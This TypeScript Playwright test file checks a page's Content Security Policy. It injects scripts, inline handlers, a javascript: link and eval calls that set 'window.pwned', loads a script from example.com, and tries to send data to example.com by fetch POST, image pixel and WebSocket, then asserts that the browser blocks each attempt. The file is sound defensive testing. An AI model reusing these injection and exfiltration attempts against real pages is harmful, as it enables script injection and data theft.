import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';

/** What the policy of the open page says, by directive. */
async function policyOf(page: Page): Promise<ReadonlyMap<string, readonly string[]>> {
  const content = await page
    .locator('meta[http-equiv="content-security-policy"]')
    .evaluate((meta) => meta.getAttribute('content') ?? '');
  return new Map(
    content.split(';').map((text) => {
      const [directive = '', ...sources] = text.trim().split(/\s+/);
      return [directive, sources];
    }),
  );
}

test('the page says what it may do: its own scripts, its own origin, nothing else', async ({ library }) => {
  const policy = await policyOf(library.page);
  expect(policy.get('default-src')).toEqual(["'none'"]);
  expect(policy.get('connect-src')).toEqual(["'self'"]);
  const scripts = policy.get('script-src') ?? [];
  expect(scripts[0]).toBe("'self'");
  expect(scripts.slice(1)).toEqual([expect.stringMatching(/^'sha256-/)]);
  for (const directive of ['base-uri', 'form-action']) expect(policy.get(directive)).toEqual(["'none'"]);
});

test.describe('what the page may not do', () => {
  // Playwright tells of requests that the browser then refuses.
  test.use({ allowedFaults: /^(console: .*Content Security Policy|request: https:\/\/example\.com\/)/ });

  /** Why the requests to another origin came to nothing. */
  function refusals(page: Page): readonly string[] {
    const reasons: string[] = [];
    page.on('requestfailed', (request) => reasons.push(request.failure()?.errorText ?? ''));
    return reasons;
  }

  test('no script that came into it runs', async ({ library: { page } }) => {
    const reasons = refusals(page);
    const ran = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        violations.push(event.effectiveDirective),
      );
      const script = document.createElement('script');
      script.textContent = 'window.pwned = 1';
      document.body.append(script);
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.pwned = 2');
      document.body.append(button);
      button.click();
      const link = document.createElement('a');
      link.href = 'javascript:window.pwned=3';
      document.body.append(link);
      link.click();
      const foreign = document.createElement('script');
      foreign.src = 'https://example.com/pwn.js';
      const refused = new Promise((resolve) => foreign.addEventListener('error', resolve));
      document.body.append(foreign);
      await refused;
      let evaluated = true;
      try {
        window.eval('window.pwned = 4');
      } catch {
        evaluated = false;
      }
      return { pwned: Reflect.get(window, 'pwned') as unknown, evaluated, violations };
    });
    expect(reasons).toEqual(['csp']);
    expect(ran.pwned).toBeUndefined();
    expect(ran.evaluated).toBe(false);
    expect(ran.violations).toContain('script-src-elem');
    expect(ran.violations).toContain('script-src-attr');
  });

  test('nothing is sent to another origin', async ({ library: { page } }) => {
    const reasons = refusals(page);
    const sent = await page.evaluate(async () => {
      const attempts: Record<string, () => Promise<unknown>> = {
        fetch: () => fetch('https://example.com/', { method: 'POST', body: 'map', mode: 'no-cors' }),
        image: () =>
          new Promise((resolve, reject) => {
            const image = new Image();
            image.onload = resolve;
            image.onerror = reject;
            image.src = 'https://example.com/pixel.png';
          }),
        socket: () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket('wss://example.com/');
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
      };
      const refused = new Set<string>();
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        refused.add(effectiveDirective),
      );
      const through: string[] = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        await attempt().then(
          () => through.push(name),
          () => {},
        );
      }
      return { through, refused: [...refused].sort() };
    });
    expect(new Set(reasons)).toEqual(new Set(['csp']));
    expect(sent).toEqual({ through: [], refused: ['connect-src', 'img-src'] });
  });
});
